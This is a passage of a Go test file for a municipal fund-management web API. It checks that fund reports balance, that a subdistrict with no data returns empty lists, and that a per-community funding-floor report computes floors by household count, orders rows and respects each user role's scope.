		// In every row, the seed's too: money received is all somewhere, the
		// balances sum to it; and the caller sees only its scope.
		for _, row := range all {
			if !slices.Contains([]int64{tt.want[0].SubdistrictID, tt.want[len(tt.want)-1].SubdistrictID}, row.SubdistrictID) {
				t.Errorf("GET /api/v1/reports/funds as %s has a row of subdistrict %d, outside its scope", tt.who, row.SubdistrictID)
			}
			var sum money.Fen
			for _, v := range row.Balances {
				sum += v
			}
			if sum != row.Received {
				t.Errorf("report row %+v: balances sum to %d, want received_fen %d", row, sum, row.Received)
			}
		}
	}

	// A finance officer of a subdistrict with no accounts and no communities
	// gets empty lists, not null.
	r := e.Do(t, servertest.Request{Method: "POST", Path: "/api/v1/subdistricts", Token: f.tokens["demo-admin"],
		Body: map[string]any{"district_id": f.district, "code": "330502099", "name_zh": "空街道"}})
	if r.Status != http.StatusCreated {
		t.Fatalf("create a subdistrict = %d %s, want 201", r.Status, r.Body)
	}
	var sub struct {
		ID int64 `json:"id"`
	}
	r.JSON(t, &sub)
	empty := fundFinanceOfficer(t, e, "finance-empty", sub.ID)
	for path, want := range map[string]string{
		"/api/v1/fund-accounts":                   `{"items":[]}`,
		"/api/v1/reports/funds":                   `{"by_category":[],"contracts":[],"items":[]}`,
		"/api/v1/reports/community-funding-floor": `{"items":[]}`,
	} {
		r := e.Do(t, servertest.Request{Method: "GET", Path: path, Token: empty})
		if r.Status != http.StatusOK || string(r.Body) != want {
			t.Errorf("GET %s in a subdistrict with nothing = %d %s, want 200 %s", path, r.Status, r.Body, want)
		}
	}
	fundInvariants(t, e)
}

// fundFloor is the funding floor of a community of h households, as
// WORKED_EXAMPLES §6 states it: under 1,000 households 10,000.00 yuan a year,
// 1,000 to 2,000 30,000.00, over 2,000 40,000.00.
func fundFloor(h int) money.Fen {
	switch {
	case h < 1000:
		return 1_000_000
	case h <= 2000:
		return 3_000_000
	default:
		return 4_000_000
	}
}

// TestFundFloorReport checks the community funding floor in real money:
// the seeded communities by rule, and communities built here, served by
// contracts of known amounts encumbered and partly paid out, exactly, in
// each fiscal year of their subdistrict's fund accounts.
func TestFundFloorReport(t *testing.T) {
	t.Parallel()
	f := newAzFixture(t)
	e := f.e
	officer := f.tokens["demo-officer"]
	floor := func(token string) []fund.FloorRow {
		t.Helper()
		var out struct {
			Items []fund.FloorRow `json:"items"`
		}
		servertest.Call(t, e, "GET", "/api/v1/reports/community-funding-floor", token, nil, http.StatusOK, &out)
		return out.Items
	}
	checkRules := func(who string, rows []fund.FloorRow) {
		t.Helper()
		for i, row := range rows {
			if row.Floor != fundFloor(row.Households) || row.BelowFloor != (row.Contracted < row.Floor) || row.Contracted < 0 || row.Paid < 0 {
				t.Errorf("as %s: row %+v breaks the rule: floor_fen %d for %d households, below_floor when contracted_fen < floor_fen",
					who, row, fundFloor(row.Households), row.Households)
			}
			if i > 0 {
				prev := rows[i-1]
				if prev.FiscalYear < row.FiscalYear || (prev.FiscalYear == row.FiscalYear &&
					((!prev.BelowFloor && row.BelowFloor) || (prev.BelowFloor == row.BelowFloor && prev.Code >= row.Code))) {
					t.Errorf("as %s: %d %s (below %v) comes after %d %s (below %v), want the newest year first, then those below their floor, then by code",
						who, row.FiscalYear, row.Code, row.BelowFloor, prev.FiscalYear, prev.Code, prev.BelowFloor)
				}
			}
		}
	}
	yearsOf := func(sub int64) []int {
		var ys []int
		if err := e.DB.Table("fund_accounts").Distinct("fiscal_year").Where("subdistrict_id = ?", sub).Order("fiscal_year DESC").
			Pluck("fiscal_year", &ys).Error; err != nil {
			t.Fatal(err)
		}
		if len(ys) == 0 {
			ys = []int{e.Clock.Now().In(civil.China).Year()}
		}
		return ys
	}
	yearsA, yearsB := yearsOf(f.subA), yearsOf(f.subB)
	var fundYear int
	if err := e.DB.Raw(`SELECT fiscal_year FROM fund_accounts WHERE id = ?`, e.Demo(t).FundA).Scan(&fundYear).Error; err != nil {
		t.Fatal(err)
	}

	// The seed: its five communities, each with the floor of its households.
	seeded := map[string]int{"330502003001": 2350, "330502003002": 1480, "330502003003": 960, "330502004001": 1820, "330502004002": 2610}
	before := floor(f.tokens["demo-district"])
	checkRules("demo-district", before)
	got := map[string]int{}
	for _, row := range before {
		got[row.Code] = row.Households
	}
	if diff := cmp.Diff(seeded, got); diff != "" {
		t.Errorf("communities of the floor report as demo-district (-want +got):\n%s", diff)
	}
	for _, row := range before {
		if want := map[int]money.Fen{2350: 4_000_000, 1480: 3_000_000, 960: 1_000_000, 1820: 3_000_000, 2610: 4_000_000}[row.Households]; row.Floor != want {
			t.Errorf("community %s of %d households: floor_fen %d, want %d", row.Code, row.Households, row.Floor, want)
		}
	}

	// Communities of A at the edges of the floor, each served only by the contracts below.
	community := func(code string, households int) int64 {
		t.Helper()
		var c struct {
			ID int64 `json:"id"`
		}
		servertest.Call(t, e, "POST", "/api/v1/communities", officer, map[string]any{"code": code, "name_zh": "测试社区" + code[9:],
			"households": households}, http.StatusCreated, &c)
		return c.ID
	}
	c999 := community("330502003091", 999)
	c1000 := community("330502003092", 1000)
	c2000 := community("330502003093", 2000)
	c2001 := community("330502003094", 2001)
	fundMoneyContract(t, e, 999_999, c999) // 9,999.99 yuan: below 10,000.00
	// 70,000.00 shared by 2,000 and 2,001 households: 35,000.00 each, of
	// which 1,000.01 paid: 500.01 and 500.00.
	k2 := fundMoneyContract(t, e, 7_000_000, c2000, c2001)
	fundPayMilestone(t, e, k2, 1, 100_001)
	fundMoneyContract(t, e, 500_000, c2001) // with the share, 40,000.00 for 2,001 households: at the floor
	// A published transfer item, planned money, counts for nothing.
	catEnsureGuidance(t, e, f.tokens["demo-district"], f.district, "ELDERLY_HOME_CARE")
	body := catItemBody("计划项目", "ELDERLY_HOME_CARE", c1000)
	body["annual_quantity"], body["unit_price_fen"] = 100, 10_000_000
	catPublish(t, e, officer, catCreate(t, e, officer, body).ID)

	type key struct {
		community int64
		year      int
	}
	want := map[key]fund.FloorRow{}
	for _, y := range yearsA {
		for _, c := range []struct {
			id               int64
			code             string
			households       int
			contracted, paid money.Fen
		}{{c999, "330502003091", 999, 999_999, 0}, {c1000, "330502003092", 1000, 0, 0}, {c2000, "330502003093", 2000, 3_500_000, 50_001},
			{c2001, "330502003094", 2001, 4_000_000, 50_000}} {
			row := fund.FloorRow{CommunityID: c.id, SubdistrictID: f.subA, Code: c.code, Households: c.households, FiscalYear: y,
				Floor: fundFloor(c.households)}
			if y == fundYear {
				row.Contracted, row.Paid = c.contracted, c.paid
			}
			row.BelowFloor = row.Contracted < row.Floor
			want[key{c.id, y}] = row
		}
	}
	if !want[key{c999, fundYear}].BelowFloor || !want[key{c1000, fundYear}].BelowFloor || want[key{c2000, fundYear}].BelowFloor ||
		want[key{c2001, fundYear}].BelowFloor {
		t.Fatal("the expected rows are wrong")
	}
	scopes := []struct {
		who  string
		subs []int64
		n    int // rows: A has 3 seeded and 4 built communities in each of its years, B 2 in each of its
	}{
		{"demo-admin", []int64{f.subA, f.subB}, 7*len(yearsA) + 2*len(yearsB)},
		{"demo-district", []int64{f.subA, f.subB}, 7*len(yearsA) + 2*len(yearsB)},
		{"demo-officer", []int64{f.subA}, 7 * len(yearsA)},
		{"demo-finance", []int64{f.subA}, 7 * len(yearsA)},
		{"demo-officer2", []int64{f.subB}, 2 * len(yearsB)},
	}
	for _, sc := range scopes {
		rows := floor(f.tokens[sc.who])
		checkRules(sc.who, rows)
		seen := map[key]bool{}
		for _, row := range rows {
			if !slices.Contains(sc.subs, row.SubdistrictID) {
				t.Errorf("as %s: community %s of subdistrict %d is outside the caller's scope", sc.who, row.Code, row.SubdistrictID)
			}
			if w, ok := want[key{row.CommunityID, row.FiscalYear}]; ok {
				seen[key{row.CommunityID, row.FiscalYear}] = true
				row.NameZh, row.NameEn = "", ""
				if diff := cmp.Diff(w, row); diff != "" {
					t.Errorf("as %s: community %s in %d (-want +got):\n%s", sc.who, w.Code, w.FiscalYear, diff)
				}
			}
		}
		if slices.Contains(sc.subs, f.subA) && len(seen) != len(want) {
			t.Errorf("as %s: the report shows %d of the %d rows of the communities built here", sc.who, len(seen), len(want))
		}
		if len(rows) != sc.n {
			t.Errorf("as %s: %d rows, want the %d of subdistricts %v", sc.who, len(rows), sc.n, sc.subs)
		}
	}
	// The seeded communities keep their money: the new contracts serve only the new communities.
	after := floor(f.tokens["demo-district"])
	for _, b := range before {
		for _, a := range after {
			if a.CommunityID == b.CommunityID && a.FiscalYear == b.FiscalYear && (a.Contracted != b.Contracted || a.Paid != b.Paid) {
				t.Errorf("community %s in %d: contracted/paid went from %d/%d to %d/%d, though no new contract serves it", a.Code,
					a.FiscalYear, b.Contracted, b.Paid, a.Contracted, a.Paid)
			}
		}
	}
}
